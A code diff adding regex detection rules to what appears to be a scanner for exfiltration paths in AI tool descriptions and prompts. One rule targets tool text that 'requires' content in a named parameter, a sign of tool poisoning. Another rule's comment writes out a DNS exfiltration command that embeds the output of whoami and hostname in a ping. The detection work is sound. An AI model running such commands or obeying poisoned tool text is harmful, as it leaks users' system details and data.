@@ -18,6 +18,20 @@ interface Extra {
 
 const EXTRAS: Extra[] = [
   {
+    // A parameter the tool "requires" something in, however far the thing is from the name: "requires X in the `license` parameter".
+    role: "sink",
+    kind: "tool-argument",
+    needs: /\b(?:parameter|field|argument)\b/i,
+    re: /\b(?:requires?|needs?|expects?|wants?|must\s+(?:get|receive|be\s+given))\b(?:[^.\n]|\.(?=\S)){0,160}?\bin\s+(?:the\s+|its\s+)?[`'"]?[A-Za-z_][\w-]*[`'"]?\s+(?:parameter|field|argument)\b/i,
+  },
+  {
+    // A host name built by the shell ("ping $(whoami).$(hostname).x.org"): the lookup itself carries what is substituted in.
+    role: "sink",
+    kind: "dns",
+    needs: /\$\(|`/,
+    re: /\b(?:ping|nslookup|dig|host|drill|getent\s+hosts|resolvectl\s+query)\s+(?:-\S+\s+)*["']?[^\s"'|;]*?(?:\$\(|`)/i,
+  },
+  {
     // The system prompt, by what it is: the text the model got before the conversation began.
     role: "source",
     kind: "conversation",
